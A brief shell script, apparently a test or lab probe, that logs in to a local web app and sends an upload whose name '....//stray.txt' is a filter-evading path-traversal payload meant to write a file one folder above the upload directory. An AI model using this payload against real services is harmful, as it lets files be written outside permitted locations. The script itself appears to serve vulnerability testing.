# reaches: stored outside of the folder
#-- one level up, and no further
curl -s -c /tmp/jar -o /dev/null http://app:8080/login -d name=tester \
    --data-urlencode "password=$(cat /home/agent/password.txt)"
curl -s -b /tmp/jar 'http://app:8080/upload?name=....//stray.txt' --data-binary x
echo none
